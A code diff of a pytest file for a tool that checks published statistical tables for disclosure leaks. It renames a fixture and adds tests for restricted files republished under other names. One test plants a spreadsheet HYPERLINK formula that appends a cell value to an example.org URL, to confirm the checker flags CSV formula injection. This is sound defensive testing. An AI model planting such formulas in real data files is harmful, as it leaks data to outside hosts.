@@ -293,36 +293,36 @@ def _restricted_csv(built) -> Path:
 
 @pytest.mark.parametrize("plant", ["csv_named_png", "dot_file", "restricted_copy_renamed", "zip_named_pdf",
                                    "text_named_xlsx", "binary_named_txt"])
-def test_a_file_that_is_not_what_its_name_says_is_a_finding(built, pub, plant):
+def test_a_file_that_is_not_what_its_name_says_is_a_finding(built, fake_pub, plant):
     src = _restricted_csv(built)
     if plant == "csv_named_png":  # a .png was never opened: restricted rows passed unread
-        shutil.copy(src, pub / "figures" / "extra.png")
+        shutil.copy(src, fake_pub / "figures" / "extra.png")
         where = "figures/extra.png"
     elif plant == "dot_file":
-        (pub / "csv" / ".notes.csv").write_text("a,b\nx,y\n", encoding="utf-8")
+        (fake_pub / "csv" / ".notes.csv").write_text("a,b\nx,y\n", encoding="utf-8")
         where = "csv/.notes.csv"
     elif plant == "restricted_copy_renamed":
-        shutil.copy(src, pub / "csv" / "T99.csv")
+        shutil.copy(src, fake_pub / "csv" / "T99.csv")
         where = "csv/T99.csv"
     elif plant == "zip_named_pdf":
-        shutil.copy(next(pub.rglob("*.xlsx")), pub / "extra.pdf")
+        shutil.copy(next(fake_pub.rglob("*.xlsx")), fake_pub / "extra.pdf")
         where = "extra.pdf"
     elif plant == "text_named_xlsx":
-        (pub / "extra.xlsx").write_text("area,n\nNorth,3\n", encoding="utf-8")
+        (fake_pub / "extra.xlsx").write_text("area,n\nNorth,3\n", encoding="utf-8")
         where = "extra.xlsx"
     else:
-        (pub / "notes.txt").write_bytes(b"\x00\x01binary\x00")
+        (fake_pub / "notes.txt").write_bytes(b"\x00\x01binary\x00")
         where = "notes.txt"
-    f = check_publication(pub, restricted_dir=built.restricted_dir, threshold=5, width=3)
+    f = check_publication(fake_pub, restricted_dir=built.restricted_dir, threshold=5, width=3)
     assert (where, "unexpected_file") in [(x.file, x.kind) for x in f], [str(x) for x in f]
 
 
-def test_formula_text_in_a_published_csv_is_a_finding(pub):
-    t = sorted((pub / "csv").glob("T*.csv"))[0]
+def test_formula_text_in_a_published_csv_is_a_finding(fake_pub):
+    t = sorted((fake_pub / "csv").glob("T*.csv"))[0]
     lines = t.read_text(encoding="utf-8").splitlines()
     lines[1] = '"=HYPERLINK(""http://example.org/?""&B2,""x"")",' + lines[1].split(",", 1)[1]
     t.write_text("\n".join(lines) + "\n", encoding="utf-8")
-    f = check_publication(pub, threshold=5, width=3)
+    f = check_publication(fake_pub, threshold=5, width=3)
     assert [(x.file, x.location, x.kind) for x in f if x.kind == "unexpected_file"] == \
         [(f"csv/{t.name}", "line 2", "unexpected_file")]
     assert "formula" in next(x.detail for x in f if x.kind == "unexpected_file")
@@ -334,46 +334,65 @@ def test_formula_text_in_a_published_csv_is_a_finding(pub):
     (lambda t: t.replace("</main>", '<span hidden>2</span></main>'), "hidden"),
     (lambda t: t.replace("</main>", '<p style="display: none">2</p></main>'), "display: none"),
 ])
-def test_html_text_no_reader_sees_is_a_finding(pub, edit, says):
-    h = _first_html(pub)
+def test_html_text_no_reader_sees_is_a_finding(fake_pub, edit, says):
+    h = _first_html(fake_pub)
     h.write_text(edit(h.read_text(encoding="utf-8")), encoding="utf-8")
-    f = [x for x in check_publication(pub, threshold=5, width=3) if x.kind == "unexpected_file"]
-    assert len(f) == 1 and f[0].file == h.relative_to(pub).as_posix() and says in f[0].detail
+    f = [x for x in check_publication(fake_pub, threshold=5, width=3) if x.kind == "unexpected_file"]
+    assert len(f) == 1 and f[0].file == h.relative_to(fake_pub).as_posix() and says in f[0].detail
 
 
-def test_metadata_without_its_disclosure_values_is_a_finding(pub):
-    m = pub / "csv" / "metadata.json"
+def test_metadata_without_its_disclosure_values_is_a_finding(fake_pub):
+    m = fake_pub / "csv" / "metadata.json"
     meta = json.loads(m.read_text(encoding="utf-8"))
     meta.pop("disclosure")
     m.write_text(json.dumps(meta), encoding="utf-8")
-    f = check_publication(pub, threshold=5, width=3)
+    f = check_publication(fake_pub, threshold=5, width=3)
     assert {(x.location, x.kind) for x in f} >= {("disclosure.threshold", "metadata"),
                                                   ("disclosure.protection_width", "metadata")}
 
 
-def test_metadata_naming_another_authority_than_the_cycles_is_a_finding(pub):
+def test_metadata_naming_another_authority_than_the_cycles_is_a_finding(fake_pub):
     # the authority's label is read as a total of every record (its small counts are not
     # findings): an edited one could exempt a unit's row
-    m = pub / "csv" / "metadata.json"
+    m = fake_pub / "csv" / "metadata.json"
     meta = json.loads(m.read_text(encoding="utf-8"))
     own = meta["universe"]["authority"]
-    assert check_publication(pub, threshold=5, width=3, authority=own) == []
+    assert check_publication(fake_pub, threshold=5, width=3, authority=own) == []
     meta["universe"]["authority"] = "Elsewhere"
     m.write_text(json.dumps(meta), encoding="utf-8")
-    f = check_publication(pub, threshold=5, width=3, authority=own)
+    f = check_publication(fake_pub, threshold=5, width=3, authority=own)
     assert [(x.location, x.kind) for x in f if x.kind == "metadata"] == [("universe.authority", "metadata")]
     assert "'Elsewhere'" in f[0].detail and repr(own) in f[0].detail
 
 
-def test_a_release_of_another_authority_with_the_same_units_is_not_combined(pub):
+def test_a_release_of_another_authority_with_the_same_units_is_not_combined(fake_pub):
     # the attack combined siblings by their units alone: two authorities with units of the
     # same names and areas were read as one programme
     from kentaudit.publication.check.folder import sibling_releases
-    out = pub.parents[1]
+    out = fake_pub.parents[1]
     same_units = out / "2012" / "publish"
-    shutil.copytree(pub, same_units)
+    shutil.copytree(fake_pub, same_units)
     m = same_units / "csv" / "metadata.json"
     meta = json.loads(m.read_text(encoding="utf-8"))
     meta["universe"]["authority"] = "Elsewhere"
     m.write_text(json.dumps(meta), encoding="utf-8")
-    assert sibling_releases(pub) == ([], [same_units])
+    assert sibling_releases(fake_pub) == ([], [same_units])
+
+
+# ------------------------------------------------------------------ restricted files published
+def test_a_restricted_file_published_under_another_name_is_a_finding(built, fake_pub):
+    audit = next(built.restricted_dir.glob("RESTRICTED_suppression_audit.csv"))
+    shutil.copyfile(audit, fake_pub / "csv" / "T98.csv")
+    f = check_publication(fake_pub, restricted_dir=built.restricted_dir, threshold=5, width=3)
+    hits = [x for x in f if x.file == "csv/T98.csv" and "the same bytes as a file of the restricted" in x.detail]
+    assert hits, f
+
+
+def test_a_table_that_hides_nothing_may_equal_its_own_unsuppressed_copy(built, fake_pub, tmp_path):
+    """A published table with no hidden cell has the bytes of its restricted (unsuppressed) copy
+    of the same table: that is no leak (a second authority's run was refused for it)."""
+    restricted = tmp_path / "restricted"
+    shutil.copytree(built.restricted_dir, restricted)
+    shutil.copyfile(fake_pub / "csv" / "T1.csv", restricted / "RESTRICTED_T1.csv")
+    f = check_publication(fake_pub, restricted_dir=restricted, threshold=5, width=3)
+    assert not [x for x in f if "the same bytes as a file of the restricted" in x.detail], f
